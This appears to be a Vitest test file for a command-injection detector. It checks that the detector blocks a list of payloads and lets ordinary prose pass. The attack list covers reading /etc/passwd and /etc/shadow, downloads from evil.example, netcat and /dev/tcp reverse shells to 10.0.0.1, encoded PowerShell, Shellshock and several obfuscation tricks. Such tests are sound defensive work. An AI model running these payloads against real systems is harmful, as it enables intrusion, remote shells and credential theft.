import { describe, expect, it } from 'vitest';
import { cmdiDetector } from '../../../src/detectors/cmdi/cmdi-detector.js';
import type { InspectedValue, Paranoia } from '../../../src/types.js';
import { BENIGN_TEXTS } from '../xss/benign-texts.js';

function at(value: string, name = 'host'): InspectedValue {
  return { location: `query.${name}`, value, raw: value, name, kind: 'query' };
}

function confidence(value: string, paranoia: Paranoia = 1): number {
  return cmdiDetector
    .inspect(at(value), paranoia)
    .reduce((max, finding) => Math.max(max, finding.confidence), 0);
}

const ATTACKS = [
  '127.0.0.1; id',
  '127.0.0.1;whoami',
  '127.0.0.1 | cat /etc/passwd',
  '127.0.0.1 || uname -a',
  '127.0.0.1 && ls -la /',
  'x & net user',
  'x & type C:\\Windows\\win.ini',
  'x\nid',
  'x\r\nwget http://evil.example/s.sh -O /tmp/s.sh',
  '$(whoami)',
  'a$(cat /etc/passwd)b',
  '`id`',
  'ax--exec=`id`--remote=origin',
  '; sleep 5',
  '| ping -c 10 127.0.0.1',
  "; c'a't /etc/passwd",
  '; c\\at /etc/passwd',
  '; w"h"oami',
  '; wh$@oami',
  '; who${x}ami',
  ';cat${IFS}/etc/passwd',
  ';cat$IFS$9/etc/passwd',
  '{cat,/etc/passwd}',
  '; /bin/cat /etc/shadow',
  '; ./payload.sh',
  '| nc -e /bin/sh 10.0.0.1 4444',
  '; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
  '| powershell -enc SQBFAFgA',
  '& cmd /c dir',
  '| w^h^o^a^m^i',
  '<(curl http://evil.example/x)',
  "() { :; }; /bin/bash -c 'id'",
  '<!--#exec cmd="ls" -->',
  ";$(printf 'hsab/nib/ e- 4321 1.0.0.721 cn'|rev)",
  '| set /a 3482*7301',
  'cat /etc/passwd',
];

describe('cmdiDetector', () => {
  it.each(ATTACKS)('blocks %j', (payload) => {
    expect(confidence(payload)).toBeGreaterThanOrEqual(0.9);
  });

  it.each(BENIGN_TEXTS)('does not block %j', (text) => {
    expect(confidence(text)).toBeLessThan(0.9);
  });

  it.each([
    'cat food 5kg',
    'echo in the mirror',
    'bash away in the gym',
    'you & me; echo chamber',
    'Lunch; sleep 8 hours then work',
    'a=1&b=2&cat=books',
    'data:image/png;base64,iVBORw0KGgo=',
    'Ping me; I am free',
    // A `+` glued to a word is part of it for a shell: these are no commands.
    'it+would+do;+copy+goes+out+today',
    'a+heroine;+more+than+that,+she+knew',
  ])('does not block the prose or data %j', (text) => {
    expect(confidence(text)).toBeLessThan(0.9);
  });

  it('alerts on a word command after a separator only from paranoia 2', () => {
    expect(confidence('notes; find everything', 1)).toBe(0);
    expect(confidence('notes; find everything', 2)).toBeGreaterThan(0);
  });

  it('names the category, the location and the separator as evidence', () => {
    const [finding] = cmdiDetector.inspect(at('8.8.8.8; cat /etc/passwd', 'ip'), 1);
    expect(finding).toMatchObject({ category: 'cmdi', location: 'query.ip' });
    expect(finding?.evidence.startsWith('; cat')).toBe(true);
  });

  it('reads long hostile input without failing', () => {
    const hostile = ';{'.repeat(30_000) + "'".repeat(30_000) + '$('.repeat(30_000);
    expect(() => cmdiDetector.inspect(at(hostile), 4)).not.toThrow();
  });
});
